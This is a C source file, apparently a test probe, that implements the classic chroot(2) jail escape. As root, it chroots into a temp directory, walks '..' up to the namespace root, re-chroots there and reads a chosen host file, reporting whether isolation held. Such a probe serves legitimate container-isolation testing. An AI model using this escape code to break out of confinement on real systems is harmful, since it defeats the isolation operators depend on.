/* chroot-escape FILE: the classic way out of a chroot(2) jail, for a root process.
 *
 * chroot(2) changes the root directory of the calling process and nothing else:
 * not its working directory, not the mount namespace. So the probe makes a
 * directory, chroots into it while its working directory stays outside, and walks
 * ".." upwards: the kernel stops such a walk only at the process's root directory,
 * which is now below it, so the walk goes on to the real root of the mount
 * namespace. There it chroots to "." and opens FILE, a path of the host.
 *
 * Inside pivot_root(2) with the old root detached, the real root of the namespace
 * is the container's own "/": the walk ends there and FILE is not to be found.
 * Prints each step; exits 0 when FILE was read (escaped), 1 when not, 2 when a step
 * failed (no CAP_SYS_CHROOT, no writable /tmp). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what)
{
	printf("chroot-escape: %s: %s\n", what, strerror(errno));
	return 2;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: chroot-escape FILE\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IONBF, 0);
	char dir[] = "/tmp/escape.XXXXXX";
	int tmp = open("/tmp", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (tmp < 0 || !mkdtemp(dir))
		return fail("a directory in /tmp");
	printf("chroot-escape: chroot(\"%s\"), the working directory stays outside it\n", dir);
	if (chroot(dir) < 0)
		return fail("chroot");
	/* Up until "." and ".." are the same directory: the top of the namespace. */
	int steps = 0;
	struct stat here, up;
	while (steps < 256 && stat(".", &here) == 0 && stat("..", &up) == 0 &&
	       (here.st_dev != up.st_dev || here.st_ino != up.st_ino) && chdir("..") == 0)
		steps++;
	printf("chroot-escape: chdir(\"..\") %d times to the top, then chroot(\".\")\n", steps);
	if (chroot(".") < 0)
		return fail("chroot(\".\")");
	unlinkat(tmp, strrchr(dir, '/') + 1, AT_REMOVEDIR);

	char line[256];
	FILE *f = fopen(argv[1], "re");
	if (!f) {
		printf("chroot-escape: still inside: open(\"%s\"): %s\n", argv[1], strerror(errno));
		return 1;
	}
	if (!fgets(line, sizeof line, f))
		line[0] = '\0';
	fclose(f);
	line[strcspn(line, "\n")] = '\0';
	printf("chroot-escape: escaped: %s says \"%s\"\n", argv[1], line);
	return 0;
}
